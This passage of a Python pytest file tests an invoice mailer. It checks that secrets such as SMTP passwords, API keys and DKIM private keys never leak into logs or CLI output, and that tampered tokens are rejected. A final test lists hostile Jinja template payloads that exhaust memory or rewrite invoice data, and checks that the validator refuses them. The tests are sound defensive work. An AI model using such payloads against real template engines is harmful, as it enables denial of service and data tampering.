                    await client.get(f"/l/{token}x")  # a tampered one is logged too
                auth = {"Authorization": f"Bearer {api_key}"}
                assert (await client.get("/api/v1/messages", headers=auth)).status_code == 200
                wrong = {"Authorization": f"Bearer {api_key[:-3]}xyz"}
                assert (await client.get("/api/v1/messages", headers=wrong)).status_code == 401
            clock.advance(timedelta(minutes=1))
            await services.deliver_webhooks()
            assert _Hooks.bodies, "the webhook was delivered (signed with the secret)"
            # A failing send in-process: the server now refuses the password.
            smtpd.script(auth={SMTP_USER: "another password"})
            smtpd.drop_connections()
            await services.send_invoice("INV-1042", kind="invoice_reminder", tenant="acme")
        finally:
            await services.close()

        # The CLI, at DEBUG, sending through the server that refuses the password.
        config_file = tmp_path / "config.toml"
        config_file.write_text(_config_toml(config))
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            *("-m", "dunmail.cli", "send", "--invoice", "INV-1042", "--kind"),
            *("late_payment_reminder", "--config", str(config_file)),
            cwd=str(ROOT),
            env=_env(
                ATTACK_SMTP_PASSWORD=SMTP_PASSWORD,
                ATTACK_HOOK_SECRET=WEBHOOK_SECRET,
                ATTACK_SECRET_KEY=SECRET_KEY,
            ),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )
        out, err = await asyncio.wait_for(process.communicate(), timeout=60)
    finally:
        hooks.shutdown()
        hooks.server_close()
    stderr = err.decode()
    assert process.returncode not in (0, None), (out, stderr)
    assert "535" in stderr or "auth" in stderr.lower(), stderr  # it did fail on the login

    pem = Path(config.tenants["acme"].dkim[0].key_file).read_text()
    # The private key's lines, less any that happen to be a run of the public key's base64
    # (the modulus is in both; the public key is meant to be shown, for the DNS record).
    public = _public_key_base64(pem.encode())
    private_lines = [line for line in pem.splitlines()[1:-1] if line not in public]
    secrets = {
        "SMTP password": SMTP_PASSWORD,
        "webhook secret": WEBHOOK_SECRET,
        "secret key": SECRET_KEY,
        "API key": api_key,
        "API key secret part": api_key.split("_", 2)[2],
        "DKIM private key": "".join(pem.splitlines()[1:-1]),
        **{f"DKIM private key line {n}": line for n, line in enumerate(private_lines)},
        **{f"link token {n}": t for n, t in enumerate(tokens)},
        **{f"link signature {n}": t.split(".")[1] for n, t in enumerate(tokens)},
    }
    formatter = logging.Formatter("%(name)s %(message)s")  # with the traceback, if any
    # Not ours: aiosmtpd ("mail.log", the test's SMTP server, logs every line it receives) and
    # httpx narrating this test's own requests to the app.
    logged = "\n".join(
        formatter.format(r)
        for r in caplog.records
        if r.name != "mail.log" and "http://dunmail/" not in r.getMessage()
    )
    assert caplog.records  # the run did log
    for what, value in secrets.items():
        assert value not in logged, f"{what} in the log records"
        assert value not in stderr, f"{what} on the CLI's stderr"
        assert value not in out.decode(), f"{what} on the CLI's stdout"


@pytest.mark.parametrize(
    "source",
    [
        "{{ 'x' * 10**9 }}",
        "{{ ['x'] * 1000000 }}",
        "{{ 2 ** 100000 }}",
        "{% set _ = invoice.update({'number': 'forged'}) %}{{ invoice.number }}",
    ],
)
def test_templates_cannot_exhaust_memory_or_change_their_data(source: str) -> None:
    """Refused when saved: a template that would build gigabytes, or rewrite what it renders."""
    from mailer.overrides import validate_override

    with pytest.raises(TemplateError):
        validate_override("new_invoice", "html", source)
